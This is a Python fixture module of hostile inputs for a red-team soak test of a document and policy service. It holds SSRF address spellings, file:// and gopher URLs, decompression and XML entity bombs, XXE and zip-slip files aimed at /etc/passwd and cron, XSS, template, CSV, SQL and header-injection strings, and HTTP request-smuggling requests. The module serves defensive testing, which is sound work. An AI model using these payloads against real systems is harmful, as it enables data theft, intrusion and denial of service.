"""Hostile input for `tests/soak/test_redteam.py`: addresses, files, titles and requests."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib

# ---------------------------------------------------------------- addresses

PRIVATE = (
    "127.0.0.1", "127.1", "127.255.255.254", "0.0.0.0", "0", "10.1.2.3", "172.31.255.255",
    "192.168.1.1", "169.254.169.254", "100.64.0.1", "100.100.100.200", "168.63.129.16",
    "192.0.0.192", "198.18.0.1", "224.0.0.1", "240.0.0.1", "255.255.255.255",
    "[::]", "[::1]", "[::7f00:1]", "[::ffff:127.0.0.1]", "[::ffff:10.0.0.1]", "[64:ff9b::7f00:1]",
    "[2002:7f00:1::]", "[2001:0:7f00:1::]", "[fe80::1]", "[fec0::1]", "[fc00::1]",
    "[fd00:ec2::254]", "[ff02::1]", "[0:0:0:0:0:ffff:7f00:1]", "[2001:db8::1]",
)  # fmt: skip
SPELLINGS = (
    "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "017700000001", "127.0.1", "127.000.000.001",
    "１２７.0.0.1", "①②⑦.0.0.1", "127。0。0。1", "localhost", "LOCALHOST", "localhost.", "a.localhost",
    "ip6-localhost", "127.0.0.1.", "127.0.0.1%00.example.cn", "127.0.0.1%2eexample.cn",
    "example.cn@127.0.0.1", "example.cn:80@127.0.0.1", "127.0.0.1#@example.cn", "127.0.0.1\\@example.cn",
    "127.0.0.1\t", " 127.0.0.1", "127.0.0.1\r\nHost: a", "%31%32%37.0.0.1", "0x7f.1", "[::1%25lo]",
    "[::1]%00", "ⓛocalhost",
)  # fmt: skip
SCHEMES = (
    "file:///etc/passwd", "FILE:///etc/passwd", "ftp://example.cn/a", "gopher://127.0.0.1:25/_HELO",
    "dict://127.0.0.1:11211/stat", "data:text/html,x", "javascript:alert(1)", "jar:http://a!/b",
    "//127.0.0.1/a", "http:127.0.0.1", "http:///etc/passwd", "unix:/var/run/docker.sock",
)  # fmt: skip

# ---------------------------------------------------------------- files


def zip_of(parts: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return made.getvalue()


def pdf_of(*objects: bytes) -> bytes:
    """A file of these objects; the first is the catalogue."""
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(
        made
        + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)
    )


def pdf_stream(content: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(content, 1)
    head = b"<</Length %d/Filter/FlateDecode%s>>stream\n" % (len(packed), extra)
    return head + packed + b"\nendstream"


def pdf_page(content: bytes, *more: bytes, resources: bytes = b"") -> bytes:
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>"
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        page + resources + b">>>>",
        pdf_stream(content),
        font,
        *more,
    )


def nested_forms(depth: int, times: int) -> bytes:
    """Forms that draw the next one several times: times ** depth operators."""
    forms = []
    for level in range(depth):
        name = b"/X %d 0 R" % (7 + level)
        last = level == depth - 1
        inner = b"BT /F 9 Tf (a) Tj ET " if last else b"/X Do " * times
        extra = b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</Font<</F 5 0 R>>"
        extra += b"" if last else b"/XObject<<" + name + b">>"
        forms.append(pdf_stream(inner, extra + b">>"))
    return pdf_page(b"/X Do " * times, *forms, resources=b"/XObject<</X 6 0 R>>")


def png_of(width: int, height: int, rows: bytes = b"") -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + check

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    body = chunk(b"IDAT", zlib.compress(rows, 1))
    return b"\x89PNG\r\n\x1a\n" + head + body + chunk(b"IEND", b"")


ENTITIES = (
    b"""<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "aaaaaaaaaa">%s]><a>&a9;</a>"""
    % b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
)
EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
DEEP_XML = b"<a>" * 200_000 + b"</a>" * 200_000
OFD = "http://www.ofdspec.org/2016"
OFD_ROOT = (
    f'<ofd:OFD xmlns:ofd="{OFD}" Version="1.0" DocType="OFD"><ofd:DocBody>'
    "<ofd:DocRoot>{root}</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
)
OFD_DOCUMENT = (
    f'<ofd:Document xmlns:ofd="{OFD}"><ofd:CommonData/><ofd:Pages>{{pages}}</ofd:Pages>'
    "</ofd:Document>"
)


def ofd_of(parts: dict[str, bytes], pages: int = 1, place: str = "Pages/P.xml") -> bytes:
    listed = "".join(f'<ofd:Page ID="{n}" BaseLoc="{place}"/>' for n in range(pages))
    return zip_of(
        {
            "OFD.xml": OFD_ROOT.format(root="Doc_0/Document.xml").encode(),
            "Doc_0/Document.xml": OFD_DOCUMENT.format(pages=listed).encode(),
            **parts,
        }
    )


def ofd_page(text: bytes, count: int = 1) -> bytes:
    line = b'<ofd:TextObject><ofd:TextCode X="1" Y="1">%s</ofd:TextCode></ofd:TextObject>' % text
    content = b"<ofd:Content><ofd:Layer>" + line * count + b"</ofd:Layer></ofd:Content>"
    return b'<ofd:Page xmlns:ofd="%s">' % OFD.encode() + content + b"</ofd:Page>"


WORD = "word/document.xml"
TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument'
    b'.wordprocessingml.document.main+xml"/></Types>'
)
LINKS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)


def docx_of(document: bytes) -> bytes:
    return zip_of({"[Content_Types].xml": TYPES, "_rels/.rels": LINKS, WORD: document})


BOMBS: dict[str, tuple[str, bytes]] = {
    "pdf: two million operators": ("a.pdf", pdf_page(b"BT /F 9 Tf (a) Tj ET " * 2_000_000)),
    "pdf: forms in forms, 10^9": ("a.pdf", nested_forms(9, 10)),
    "pdf: a form that draws itself": (
        "a.pdf",
        pdf_page(
            b"/X Do",
            pdf_stream(
                b"/X Do /X Do",
                b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>",
            ),
            resources=b"/XObject<</X 6 0 R>>",
        ),
    ),
    "pdf: 150 MB in one stream": ("a.pdf", pdf_page(bytes(150_000_000))),
    "pdf: a million pages that are one": (
        "a.pdf",
        pdf_of(
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count 1000000/Kids[" + b"3 0 R " * 1_000_000 + b"]>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        ),
    ),
    "pdf: pages that hold themselves": (
        "a.pdf",
        pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 9/Kids[2 0 R]>>"),
    ),
    "pdf: a page of ten thousand kilometres": (
        "a.pdf",
        pdf_page(b"BT (a) Tj ET").replace(b"600 800", b"9e9 9e9"),
    ),
    "pdf: arrays 100,000 deep": ("a.pdf", pdf_of(b"[" * 100_000 + b"]" * 100_000)),
    "pdf: a cross-reference that leads nowhere": ("a.pdf", b"%PDF-1.7\nstartxref\n99999999\n%%EOF"),
    "pdf: cut off": ("a.pdf", pdf_page(b"BT (a) Tj ET")[:200]),
    "pdf: only its first line": ("a.pdf", b"%PDF-1.7\n"),
    "ofd: 100 MB of a page": (
        "a.ofd",
        ofd_of({"Doc_0/Pages/P.xml": ofd_page(b"a" * 1000, 100_000)}),
    ),
    "ofd: a page listed a million times": (
        "a.ofd",
        ofd_of({"Doc_0/Pages/P.xml": ofd_page(b"a", 50)}, pages=1_000_000),
    ),
    "ofd: entities that multiply": ("a.ofd", zip_of({"OFD.xml": ENTITIES})),
    "ofd: an entity of the disk": ("a.ofd", zip_of({"OFD.xml": EXTERNAL})),
    "ofd: 200,000 deep": ("a.ofd", zip_of({"OFD.xml": DEEP_XML})),
    "ofd: a page outside the package": (
        "a.ofd",
        ofd_of({"Doc_0/Pages/P.xml": ofd_page(b"a")}, place="../../../../etc/passwd"),
    ),
    "ofd: an absolute page": ("a.ofd", ofd_of({}, place="/etc/passwd")),
    "ofd: a document that is itself": (
        "a.ofd",
        zip_of({"OFD.xml": OFD_ROOT.format(root="OFD.xml").encode()}),
    ),
    "ofd: nothing in it": ("a.ofd", zip_of({})),
    "png: 60,000 by 60,000": ("a.png", png_of(60_000, 60_000)),
    "png: two thousand million wide": ("a.png", png_of(2**31 - 1, 1)),
    "png: 30,000 by 30,000 whole": ("a.png", png_of(30_000, 30_000, bytes(90_001) * 2_000)),
    "png: 150 MB of rows for one pixel": ("a.png", png_of(1, 1, bytes(150_000_000))),
    "png: no size": ("a.png", png_of(0, 0)),
    "jpeg: only its first bytes": ("a.jpg", b"\xff\xd8\xff\xe0"),
    "docx: 150 MB in 150 kB": ("a.docx", docx_of(b"<a>" + b" " * 150_000_000 + b"</a>")),
    "docx: entities that multiply": ("a.docx", docx_of(ENTITIES)),
    "docx: an entity of the disk": ("a.docx", docx_of(EXTERNAL)),
    "docx: 200,000 deep": ("a.docx", docx_of(DEEP_XML)),
    "docx: no document": ("a.docx", zip_of({"[Content_Types].xml": TYPES, "_rels/.rels": LINKS})),
    "xlsx: 150 MB of strings": (
        "a.xlsx",
        zip_of({"[Content_Types].xml": TYPES, "xl/sharedStrings.xml": bytes(150_000_000)}),
    ),
    "zip: a hundred thousand names": ("a.zip", zip_of({f"{n}.txt": b"" for n in range(100_000)})),
    "zip: a name that climbs": ("a.zip", zip_of({"../../../etc/cron.d/x": b"x"})),
    "zip: in a zip in a zip": ("a.zip", zip_of({"a.zip": zip_of({"a.zip": zip_of({"a": b"1"})})})),
    "gzip: 150 MB": ("a.html", gzip.compress(bytes(150_000_000), 1)),
    "html: half a million line breaks": ("a.html", b"<p>" + b"<br>" * 500_000),
    "html: comments that do not end": ("a.html", b"<p>a" + b"<!--" * 100_000),
    "html: sections that do not end": ("a.html", b"<p>a" + b"<![CDATA[" * 150_000),
    "html: 100,000 deep": ("a.html", b"<div>" * 100_000),
    "html: 250,000 cells": ("a.html", b"<table>" + (b"<tr>" + b"<td>a" * 500) * 500),
    "html: a cell that spans everything": (
        "a.html",
        b"<table><tr>" + b"<td rowspan=65000 colspan=65000>a" * 50 + b"</table>",
    ),
    "html: one attribute of 5 MB": ("a.html", b"<p a='" + b"a" * 5_000_000 + b"'>b"),
    "html: a million attributes": ("a.html", b"<p " + b"a=b " * 1_000_000 + b">b"),
    "text: articles without end": ("a.txt", ("第一条" * 33_000).encode()),
    "text: terms without end": ("a.txt", ("有效期" * 33_000).encode()),
    "text: years without end": ("a.txt", ("2024年" * 33_000).encode()),
    "text: brackets without end": ("a.txt", ("《" * 100_000).encode()),
    "text: numbers without end": ("a.txt", b"1" * 1_000_000),
    "text: a title of a million signs": ("a.txt", ("办" * 1_000_000 + "法").encode()),
    "text: surrogates, nulls, bidi": ("a.txt", b"\xed\xa0\x80\x00\xe2\x80\xae" * 50_000),
    "eml: parts in parts": ("a.mht", b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=a\n\n" + b"--a\nContent-Type: multipart/mixed; boundary=a\n\n" * 20_000),
    "xml: entities that multiply": ("a.xml", ENTITIES),
    "xml: an entity of the disk": ("a.xml", EXTERNAL),
    "doc: only its first bytes": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)),
    "doc: sectors in a circle": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(22) + b"\x03\x00\xfe\xff\x09\x00" + bytes(40_000)),
}  # fmt: skip

CHARSETS = (
    "punycode", "idna", "undefined", "base64", "bz2", "hex", "quopri", "rot_13", "uu", "zlib",
    "unicode_escape", "raw_unicode_escape", "utf-7", "mbcs", "../../x", "gb2312\r\nX: y",
)  # fmt: skip

# ---------------------------------------------------------------- titles and requests

TITLES = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>',
    "{{7*7}}", "{% for a in b %}", "${7*7}", "=cmd|'/C calc'!A0", "+1+cmd", "-2+3", "@SUM(1)",
    "甲\r\nBcc: a@evil.example", "甲\nBEGIN:VEVENT", "]]><a>", "</title><script>1</script>",
    "javascript:alert(1)", "甲‮法办", "甲​乙", "&lt;b&gt;",
)  # fmt: skip

ODD_VALUES = (
    "'", "' OR 1=1 --", "\x00", "%00", "../../etc/passwd", "9" * 400, "-1", "1e309", "NaN", "Infinity",
    "{{7*7}}", "<script>", "\ud7ff", "💥" * 500, "0001-01-01", "9999-12-31", "10000-01-01", "0000-00-00",
    "2024-02-30", "2024-01-01T00:00:00Z", "P999999999Y", "[]", "{}", "true", "", " ", "*", '"', "a AND NEAR(",
)  # fmt: skip
ODD_PATHS = (
    "/v1/in-force?on={}", "/v1/expiring?within={}", "/v1/policies?q={}", "/v1/policies/{}",
    "/v1/policies/a/on/{}", "/policies?q={}", "/evidence/{}/x", "/static/{}",
)  # fmt: skip
RAW_REQUESTS = (
    b"GET / HTTP/1.1\r\n\r\n",
    b"GET / HTTP/9.9\r\nHost: a\r\n\r\n",
    b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03",
    b"GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
    b"GET / HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n",
    b"POST /v1/subscriptions HTTP/1.1\r\nHost: a\r\nContent-Length: 999999999999\r\n\r\n",
    b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\n" + b"X: y\r\n" * 20_000 + b"\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"y" * 200_000 + b"\r\n\r\n",
    b"GET http://127.0.0.1:1/ HTTP/1.1\r\nHost: a\r\n\r\n",
    b"CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    b"\r\n\r\n\r\n",
    b"\x00" * 1000,
)
